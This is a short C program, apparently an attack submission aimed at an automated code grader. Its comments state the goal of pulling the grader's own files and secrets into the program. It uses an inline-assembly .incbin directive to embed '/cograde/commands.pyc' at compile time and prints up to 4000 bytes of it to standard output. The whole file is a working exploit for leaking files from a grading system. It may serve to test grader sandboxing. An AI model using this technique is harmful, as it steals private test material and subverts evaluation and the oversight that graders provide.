// Wants the grader's own files inside the program, and the secret out of them.
// attack: c io
#include <stdio.h>
__asm__(".section .rodata\n.global blob\n.global blob_end\nblob:\n.incbin \"/cograde/commands.pyc\"\nblob_end:\n.text\n");
extern const char blob[], blob_end[];
int main(void) { fwrite(blob, 1, (blob_end - blob) < 4000 ? blob_end - blob : 4000, stdout); return 0; }
